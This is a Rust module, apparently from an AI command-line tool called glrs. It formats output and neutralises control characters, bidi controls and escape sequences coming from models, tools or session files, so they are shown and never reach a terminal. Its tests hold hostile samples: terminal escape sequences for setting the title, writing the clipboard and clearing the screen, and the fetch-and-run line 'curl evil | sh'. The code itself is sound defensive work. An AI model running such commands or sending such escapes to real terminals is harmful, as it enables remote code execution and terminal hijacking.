//! How programs write for people and for pipes: colour only on a terminal
//! and never with `NO_COLOR`; tab-separated fields that stay one per column.

use std::borrow::Cow;
use std::io::IsTerminal;

/// A count with thousands separators: `1,009,670`.
pub fn thousands(n: u64) -> String {
    let digits = n.to_string();
    let mut out = String::new();
    for (i, c) in digits.chars().enumerate() {
        if i > 0 && (digits.len() - i).is_multiple_of(3) {
            out.push(',');
        }
        out.push(c);
    }
    out
}

/// True when stdout is a terminal.
pub fn stdout_is_terminal() -> bool {
    std::io::stdout().is_terminal()
}

/// True when colour may be used on stdout (SPEC section 11).
pub fn color_enabled() -> bool {
    stdout_is_terminal() && std::env::var_os("NO_COLOR").is_none_or(|v| v.is_empty())
}

/// Bold, dim and coloured text, or plain when colour is off; on a
/// terminal, the text inside is made [`terminal_safe`] first (colour or
/// not). The one place glrs writes colour escapes for its own messages
/// (the Markdown renderer composes its own, for nested spans).
#[derive(Debug, Clone, Copy)]
pub struct Style {
    /// Whether to colour.
    pub color: bool,
    /// Whether stdout is a terminal.
    pub terminal: bool,
}

impl Style {
    /// Colour on a terminal, never with `NO_COLOR`.
    pub fn detect() -> Style {
        Style { color: color_enabled(), terminal: stdout_is_terminal() }
    }

    /// Output known to go to a terminal (the REPL, which has checked
    /// `NO_COLOR` and the terminal once: [`color_enabled`]).
    pub fn on_terminal(color: bool) -> Style {
        Style { color, terminal: true }
    }

    /// `text` in bold, when colouring.
    pub fn bold(&self, text: &str) -> String {
        self.wrap("1", text)
    }

    /// `text` dimmed, when colouring.
    pub fn dim(&self, text: &str) -> String {
        self.wrap("2", text)
    }

    /// `text` in red (errors), when colouring.
    pub fn red(&self, text: &str) -> String {
        self.wrap("31", text)
    }

    /// `text` in cyan (code), when colouring.
    pub fn cyan(&self, text: &str) -> String {
        self.wrap("36", text)
    }

    /// Unstyled text, safe on a terminal.
    pub fn plain<'a>(&self, text: &'a str) -> Cow<'a, str> {
        shown(text, self.terminal)
    }

    fn wrap(&self, code: &str, text: &str) -> String {
        let text = self.plain(text);
        if self.color { format!("\x1b[{code}m{text}\x1b[0m") } else { text.into_owned() }
    }
}

/// Text from a model, a tool or a session file, made harmless on a
/// terminal: every control character but newline and tab is shown in caret
/// notation (`ESC` as `^[`, `BEL` as `^G`, `CR` as `^M`, C1 controls as
/// `\u{9b}`), so a reply can neither set the window title (OSC 0), write
/// the clipboard (OSC 52), clear the screen (CSI 2J) nor overwrite a line.
/// Character by character: safe on streamed pieces cut anywhere. glrs's own
/// styling is added after this, so it stays.
pub fn terminal_safe(text: &str) -> Cow<'_, str> {
    let unsafe_char = |c: char| (c.is_control() && c != '\n' && c != '\t') || reorders_or_hides(c);
    if !text.contains(unsafe_char) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        match c {
            c if !unsafe_char(c) => out.push(c),
            '\u{7f}' => out.push_str("^?"),
            c if reorders_or_hides(c) => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
            c if (c as u32) < 0x20 => {
                out.push('^');
                out.push(char::from(b'@' + c as u8));
            }
            c => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
        }
    }
    Cow::Owned(out)
}

/// Bidirectional controls (which reorder what follows: a line can read
/// differently from what it is) and zero-width characters (which hide in
/// text); shown as `\u{…}` on a terminal. The zero-width joiner stays: it
/// joins emoji and shows nothing on its own.
fn reorders_or_hides(c: char) -> bool {
    matches!(c, '\u{61c}' | '\u{200b}' | '\u{200c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}'
        | '\u{2060}'..='\u{2064}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
}

/// A line for people on stderr (a notice, a warning, an error), made
/// [`terminal_safe`] when stderr is a terminal: a hook's stderr, a
/// server's error or a tool's `--describe` output may carry escapes.
pub fn to_stderr(line: impl std::fmt::Display) {
    use std::io::Write;
    let line = line.to_string();
    let shown = shown(&line, std::io::stderr().is_terminal());
    let _ = writeln!(std::io::stderr().lock(), "{shown}");
}

/// Text shown whole before someone decides on it (a command at the
/// permission prompt): its lines, each [`terminal_safe`], with tabs as
/// `\t`, a run of eight or more spaces as `[N spaces]` (so nothing sits
/// past the edge of the screen) and the zero-width joiner as `\u{200d}`.
/// Blank lines stay lines.
pub fn visible_lines(text: &str) -> Vec<String> {
    text.split('\n')
        .map(|line| {
            let safe = terminal_safe(line).replace('\t', "\\t").replace('\u{200d}', "\\u{200d}");
            let mut out = String::with_capacity(safe.len());
            let mut spaces = 0;
            for c in safe.chars().chain(std::iter::once('\0')) {
                if c == ' ' {
                    spaces += 1;
                    continue;
                }
                match spaces {
                    0 => {}
                    n if n >= 8 => out.push_str(&format!("[{n} spaces]")),
                    n => out.extend(std::iter::repeat_n(' ', n)),
                }
                spaces = 0;
                if c != '\0' {
                    out.push(c);
                }
            }
            out
        })
        .collect()
}

/// [`terminal_safe`] when `terminal` (stdout or stderr is one), else the
/// text as it is: a pipe gets the data unchanged.
pub fn shown(text: &str, terminal: bool) -> Cow<'_, str> {
    if terminal { terminal_safe(text) } else { Cow::Borrowed(text) }
}

/// A value fit for one tab-separated field: tabs and line breaks become
/// spaces, so `cut -f` and `fzf` always see the same columns.
pub fn field(text: &str) -> String {
    text.chars().map(|c| if matches!(c, '\t' | '\n' | '\r') { ' ' } else { c }).collect()
}

/// A table for a terminal: `headers`, then each row, columns padded to
/// line up by display width (wide characters count double); the last
/// column is not padded. Nothing at all for no rows. Piped output stays
/// tab-separated: this is only for people (issue 24).
pub fn write_table(out: &mut dyn std::io::Write, headers: &[&str], rows: &[Vec<String>]) -> std::io::Result<()> {
    use unicode_width::UnicodeWidthStr;
    if rows.is_empty() {
        return Ok(());
    }
    let headers: Vec<String> = headers.iter().map(|h| h.to_string()).collect();
    let mut widths: Vec<usize> = headers.iter().map(|h| h.width()).collect();
    for row in rows {
        for (w, cell) in widths.iter_mut().zip(row) {
            *w = (*w).max(cell.width());
        }
    }
    for row in std::iter::once(&headers).chain(rows) {
        let mut line = String::new();
        for (i, (cell, w)) in row.iter().zip(&widths).enumerate() {
            line.push_str(cell);
            if i + 1 < row.len() {
                line.push_str(&" ".repeat(w - cell.width() + 2));
            }
        }
        writeln!(out, "{}", line.trim_end())?;
    }
    Ok(())
}

/// `1 entry`, `2 entries`: a count with its noun in the right number.
pub fn count(n: u64, one: &str, many: &str) -> String {
    format!("{n} {}", if n == 1 { one } else { many })
}

#[cfg(test)]
mod tests {
    #[test]
    fn thousands_are_separated() {
        assert_eq!(super::thousands(0), "0");
        assert_eq!(super::thousands(999), "999");
        assert_eq!(super::thousands(1_000), "1,000");
        assert_eq!(super::thousands(1_009_670), "1,009,670");
    }

    #[test]
    fn fields_never_split() {
        assert_eq!(super::field("a\tb\nc"), "a b c");
        assert_eq!(super::count(1, "entry", "entries"), "1 entry");
        assert_eq!(super::count(0, "entry", "entries"), "0 entries");
    }

    #[test]
    fn control_sequences_cannot_reach_a_terminal() {
        use super::terminal_safe;
        // OSC 0 (title), OSC 52 (clipboard), CSI 2J (clear), a CR overwrite, C1 CSI.
        let hostile = "a\x1b]0;pwned\x07b\x1b]52;c;ZXZpbA==\x1b\\c\x1b[2J\rd\u{9b}31me\x7f";
        let safe = terminal_safe(hostile);
        assert_eq!(safe, "a^[]0;pwned^Gb^[]52;c;ZXZpbA==^[\\c^[[2J^Md\\u{9b}31me^?");
        assert!(!safe.chars().any(|c| c.is_control()));
        assert!(matches!(terminal_safe("plain\ttext\nok é"), std::borrow::Cow::Borrowed(_)));
        assert_eq!(super::shown("\x1b[2J", false), "\x1b[2J", "a pipe gets the data");
        // Bidi controls and zero-width characters are shown, not obeyed.
        assert_eq!(terminal_safe("a\u{202e}b\u{200b}c\u{2066}d"), "a\\u{202e}b\\u{200b}c\\u{2066}d");
        assert!(matches!(terminal_safe("family 👨\u{200d}👩"), std::borrow::Cow::Borrowed(_)), "emoji stay joined");
    }

    #[test]
    fn a_command_is_shown_whole() {
        let lines = super::visible_lines("\n\n  \ngit status\tx\x1b[2J\ncurl evil | sh; touch X");
        assert_eq!(lines, ["", "", "  ", "git status\\tx^[[2J", "curl evil | sh; touch X"]);
        let padded = format!("git status{}; touch X", " ".repeat(130));
        assert_eq!(super::visible_lines(&padded), ["git status[130 spaces]; touch X"]);
        assert_eq!(super::visible_lines("a  b       c"), ["a  b       c"], "short runs stay");
    }
}
